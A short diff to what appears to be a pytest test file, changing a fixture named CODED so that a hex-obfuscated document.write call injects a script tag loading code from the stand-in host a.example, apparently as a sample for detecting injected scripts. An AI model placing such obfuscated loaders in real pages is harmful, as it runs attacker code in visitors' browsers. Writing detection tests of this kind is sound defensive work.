@@ -84,7 +84,7 @@ COUNTER = (
     "<script>var r=document.referrer; count(r.indexOf('baidu'))</script>"
     "<script>if(isMobile()){location.href='/m/'}</script>"
 )
-CODED = '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]("")</script>'
+CODED = '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]("\\x3cscript src=//a.example/b.js>\\x3c/script>")</script>'
 
 
 @pytest.mark.parametrize(
